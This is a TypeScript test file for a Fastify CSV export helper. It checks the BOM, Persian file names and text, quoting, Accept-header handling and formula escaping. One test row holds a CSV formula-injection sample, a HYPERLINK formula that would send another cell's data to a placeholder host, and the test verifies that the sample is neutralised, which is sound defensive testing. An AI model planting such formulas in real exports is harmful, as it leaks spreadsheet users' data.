import { parse } from 'csv-parse/sync';
import Fastify from 'fastify';
import { csvReply, wantsCsv } from './csv-reply.js';

describe('CSV answers', () => {
  it('streams rows as UTF-8 CSV with a BOM, Persian and awkward cells intact', async () => {
    const app = Fastify();
    const rows = [
      { at: '1405-09-12', what: 'صدور پروانه ساختمانی', note: 'a, "quoted"\nline' },
      { at: '1405-09-13', what: 'Permit returned', note: undefined },
      { at: '1405-09-14', what: '=HYPERLINK("http://x/?"&B2)', note: '-2+3' },
    ];
    app.get('/export', (_request, reply) =>
      reply.send(
        csvReply(
          reply,
          'گزارش.csv',
          [
            { header: 'date', cell: (r: (typeof rows)[number]) => r.at },
            { header: 'what', cell: (r) => r.what },
            { header: 'note', cell: (r) => r.note },
          ],
          (async function* () {
            yield* rows;
          })(),
        ),
      ),
    );
    const res = await app.inject({ method: 'GET', url: '/export' });
    await app.close();
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain("filename*=UTF-8''%DA%AF");
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(res.rawPayload, { bom: true, columns: true })).toEqual([
      { date: '1405-09-12', what: 'صدور پروانه ساختمانی', note: 'a, "quoted"\nline' },
      { date: '1405-09-13', what: 'Permit returned', note: '' },
      // A typed formula stays text in a spreadsheet.
      { date: '1405-09-14', what: `'=HYPERLINK("http://x/?"&B2)`, note: "'-2+3" },
    ]);
  });

  it.each([
    ['text/csv', true],
    ['text/csv;q=0.5, application/json', false],
    ['application/json;q=0.1, text/csv;q=0.9', true],
    ['*/*', false],
    [undefined, false],
  ])('Accept %s asks for CSV: %s', (accept, csv) => {
    expect(wantsCsv(accept)).toBe(csv);
  });
});
